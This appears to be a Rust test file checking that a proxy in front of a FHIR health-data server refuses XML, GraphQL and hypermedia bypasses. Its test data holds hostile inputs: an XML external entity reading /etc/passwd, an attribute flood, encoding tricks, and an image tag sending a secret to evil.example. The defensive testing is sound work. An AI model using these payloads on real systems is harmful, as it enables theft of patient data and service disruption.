//! G: XML, GraphQL, hypermedia. None of it is judged, so none of it is passed on.

use super::{
    CLAIMS, FHIR_BAD_GATEWAY, MOTHER, NOTHING, SECRET, Stand, Step, bundle, claims, condition,
    good, harmless, headed,
};

/// A FHIR server that answers with these bytes of XML.
async fn xml_is_refused(kind: &str, bytes: &[u8]) {
    let head = format!("HTTP/1.1 200 OK\nContent-Type: {kind}\nContent-Length: {}", bytes.len());
    let stand = Stand::fhir_by(headed(&head, bytes)).await;
    for path in ["/fhir/Condition?patient=p-102", "/fhir/Condition/a", "/fhir/export/a"] {
        let answer = stand.get("M-102", path).await;
        assert_eq!((answer.status, answer.body.as_str()), (502, FHIR_BAD_GATEWAY), "{path}");
    }
    for line in stand.proxy.files.audit() {
        assert!(!line.to_string().contains(SECRET));
    }
}

#[tokio::test]
async fn bypass_G1_other_formats_cannot_be_asked_for() {
    let stand = Stand::fhir(&bundle(&[condition("a", "p-104", "J06.9", "")])).await;
    let line = "GET /fhir/Condition?patient=p-104";
    let plain = stand.get(MOTHER, "/fhir/Condition?patient=p-104").await;
    for accept in ["application/fhir+xml", "text/turtle", "text/html, */*;q=0.1", "*/*"] {
        let answer = stand.ask(MOTHER, line, &[&format!("Accept: {accept}")]).await;
        assert_eq!(answer.comparable(), plain.comparable(), "{accept}");
    }
    for format in ["xml", "html/xml", "text/turtle", "application%2Ffhir%2Bxml", "ttl", "rdf", ""] {
        let answer = stand.get(MOTHER, &format!("/fhir/Condition?_format={format}")).await;
        assert_eq!(answer.status, 400, "{format}");
        assert!(answer.body.contains("`_format`"));
    }
    let json = stand.get(MOTHER, "/fhir/Condition?patient=p-104&_format=json").await;
    assert_eq!(json.comparable(), plain.comparable());
    for asked in stand.asked() {
        assert!(asked.contains("\r\naccept: application/fhir+json\r\n"), "{asked}");
        assert!(!asked.contains("_format"), "{asked}");
    }
}

#[tokio::test]
async fn bypass_G2_document_types_and_entities() {
    let bomb = format!(
        "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a \"{SECRET}\"><!ENTITY b SYSTEM \
         \"file:///etc/passwd\">]><Bundle xmlns=\"http://hl7.org/fhir\">&a;&b;</Bundle>"
    );
    xml_is_refused("application/fhir+xml", bomb.as_bytes()).await;
    xml_is_refused("application/fhir+json", bomb.as_bytes()).await;
}

#[tokio::test]
async fn bypass_G3_text_split_by_comments_and_references() {
    let split = "<Condition xmlns=\"http://hl7.org/fhir\"><code value=\"F<!-- -->3&#51;.1\"/>\
                 <text><![CDATA[F33.1]]></text></Condition>";
    xml_is_refused("application/fhir+xml", split.as_bytes()).await;
}

#[tokio::test]
async fn bypass_G4_xml_that_does_not_end_or_goes_on() {
    for text in ["<a><b>", "<a/><b/>", "<a/>junk", "<a/>\0"] {
        xml_is_refused("application/xml", text.as_bytes()).await;
    }
}

#[tokio::test]
async fn bypass_G5_prefixes_encodings_and_instructions() {
    let text = "<?xml version=\"1.0\" encoding=\"utf-7\"?><?evil x?><f:Condition \
                xmlns:f=\"http://hl7.org/fhir\" a=\"1\" a=\"2\"><f:code value=\"F33.1\"/></f:Condition>";
    xml_is_refused("application/fhir+xml; charset=utf-8", text.as_bytes()).await;
    let wide: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    xml_is_refused("application/fhir+xml", &wide).await;
}

#[tokio::test]
async fn bypass_G6_floods_of_attributes() {
    let flood: String = (0..80_000).map(|n| format!(" a{n}=\"\"")).collect::<Vec<_>>().concat();
    let began = std::time::Instant::now();
    xml_is_refused("application/fhir+xml", format!("<a{flood}/>").as_bytes()).await;
    assert!(began.elapsed() < std::time::Duration::from_secs(30), "{:?}", began.elapsed());
}

#[tokio::test]
async fn bypass_G7_graphql() {
    let stand = Stand::fhir(&bundle(&[condition(SECRET, "p-102", "F33.1", "")])).await;
    let query = "query=%7Bx%3AConditionList%7Bid%7D%7D";
    for line in [
        &format!("GET /fhir/$graphql?{query}"),
        "POST /fhir/$graphql",
        &format!("GET /fhir/Patient/p-102/$graphql?{query}"),
        "GET /graphql",
        "POST /graphql",
        "GET /api/v1/graphql?query=x",
        "POST /fhir",
    ] {
        let answer = stand.ask(MOTHER, line, &[]).await;
        assert!([404, 405].contains(&answer.status), "{line}: {}", answer.status);
    }
    for parameter in ["query", "operationName", "variables", "extensions"] {
        let answer = stand.get(MOTHER, &format!("/fhir/Condition?{parameter}=x")).await;
        assert_eq!(answer.status, 400, "{parameter}");
    }
    assert!(stand.asked().is_empty());
}

#[tokio::test]
async fn bypass_G8_hypermedia_that_brings_more() {
    let secret = super::hidden();
    let body = claims(&[harmless()]).replacen(
        '{',
        &format!(
            "{{\"included\":[{secret}],\"_embedded\":{{\"claims\":[{secret}]}},\"_links\":\
             {{\"next\":\"/{SECRET}\"}},\"@odata.count\":7,\"value\":[{secret}],\"data\":\
             {{\"claims\":[{secret}]}},"
        ),
        1,
    );
    let stand = Stand::house(good("application/json", &body)).await;
    let answer = stand.get(MOTHER, CLAIMS).await;
    assert_eq!(answer.body, claims(&[harmless()]));
    for parameter in [
        "include=claims.lines",
        "fields%5Bclaims%5D=code",
        "$expand=lines",
        "$filter=code%20eq%20'F33.1'",
        "$count=true",
        "$select=code",
        "embed=lines",
        "filter%5Bcode%5D=F33.1",
    ] {
        let answer = stand.get(MOTHER, &format!("{CLAIMS}?{parameter}")).await;
        assert_eq!(answer.status, 400, "{parameter}");
    }
    assert_eq!(stand.asked().len(), 1);
}

#[tokio::test]
async fn bypass_G9_narrative_that_loads_images() {
    let div = format!(
        ",\"text\":{{\"status\":\"generated\",\"div\":\"<div xmlns=\\\"http://www.w3.org/1999/xhtml\
         \\\"><img src=\\\"https://evil.example/{SECRET}\\\"/><svg onload=\\\"x\\\"/></div>\"}}"
    );
    let one = condition("open", "p-104", "J06.9", &div);
    let stand = Stand::fhir(&bundle(std::slice::from_ref(&one))).await;
    let answer = stand.get(MOTHER, "/fhir/Condition?patient=p-104").await;
    assert!(answer.body.contains("open"), "{}", answer.body);
    for never in [SECRET, "evil", "svg", "\"text\""] {
        assert!(!answer.body.contains(never), "{never}: {}", answer.body);
    }
    let stand = Stand::fhir_by(vec![Step::Close]).await;
    assert_ne!(stand.get(MOTHER, "/fhir/Condition").await.body, NOTHING);
}
